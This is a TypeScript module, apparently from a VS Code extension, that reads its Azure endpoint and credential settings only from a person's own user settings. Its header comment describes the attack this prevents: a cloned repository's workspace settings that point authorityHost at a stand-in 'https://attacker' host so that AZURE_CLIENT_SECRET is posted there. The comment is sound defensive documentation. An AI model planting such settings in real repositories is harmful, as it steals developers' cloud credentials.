/**
 * The `sherpa.azure.*` settings and how they are read. Each one chooses an endpoint, a credential, a
 * tenant, a subscription or an id, so each is declared `"scope": "machine"` and listed in
 * `capabilities.untrustedWorkspaces.restrictedConfigurations` (package.json), and each is read from the
 * person's own settings only: a cloned repository's `.vscode/settings.json` with
 * `sherpa.azure.signIn: "environment"` and `sherpa.azure.authorityHost: "https://attacker"` would otherwise
 * make the next Azure command post AZURE_CLIENT_SECRET from the environment to that host.
 *
 * No `vscode` import: the reader takes anything shaped like a WorkspaceConfiguration, so the unit tests
 * can hand it one with a workspace value present.
 */
import { PUBLIC_CLOUD } from '../../core/azure/endpoints';

/** Keys relative to the `sherpa` section. */
export const AZURE_SETTING_KEYS = {
  azureResourceManagerEndpoint: 'azure.resourceManagerEndpoint',
  azureGraphEndpoint: 'azure.graphEndpoint',
  azureAuthorityHost: 'azure.authorityHost',
  azureSignIn: 'azure.signIn',
  azureTenant: 'azure.tenant',
  azureSubscriptionId: 'azure.subscriptionId',
  azureResourceGroup: 'azure.resourceGroup',
  azureApiClientId: 'azure.apiClientId',
} as const;

export interface AzureSettings {
  endpoints: { resourceManager: string; graph: string; authorityHost: string };
  /** `vscode`: VS Code's `microsoft` account; `environment`: @azure/identity's AZURE_* variables (CI, dev containers). */
  signIn: 'vscode' | 'environment';
  tenant?: string;
  subscriptionId?: string;
  resourceGroup?: string;
  apiClientId?: string;
}

/** The part of vscode.WorkspaceConfiguration the reader needs. */
export interface ConfigurationInspector {
  inspect<T>(key: string): { globalValue?: T; workspaceValue?: T; workspaceFolderValue?: T } | undefined;
}

/**
 * The value from the person's user (or remote-machine) settings; workspace and folder values never
 * count, whatever VS Code's own handling of machine-scoped settings does with them.
 */
export function userSettingValue<T>(c: ConfigurationInspector, key: string): T | undefined {
  return c.inspect<T>(key)?.globalValue;
}

export function readAzureSettings(c: ConfigurationInspector): AzureSettings {
  const text = (key: string) => {
    const v = userSettingValue<unknown>(c, key);
    return typeof v === 'string' && v.trim() ? v.trim() : undefined;
  };
  const k = AZURE_SETTING_KEYS;
  return {
    endpoints: {
      resourceManager: text(k.azureResourceManagerEndpoint) ?? PUBLIC_CLOUD.resourceManager,
      graph: text(k.azureGraphEndpoint) ?? PUBLIC_CLOUD.graph,
      authorityHost: text(k.azureAuthorityHost) ?? PUBLIC_CLOUD.authorityHost,
    },
    signIn: text(k.azureSignIn) === 'environment' ? 'environment' : 'vscode',
    tenant: text(k.azureTenant),
    subscriptionId: text(k.azureSubscriptionId),
    resourceGroup: text(k.azureResourceGroup),
    apiClientId: text(k.azureApiClientId),
  };
}
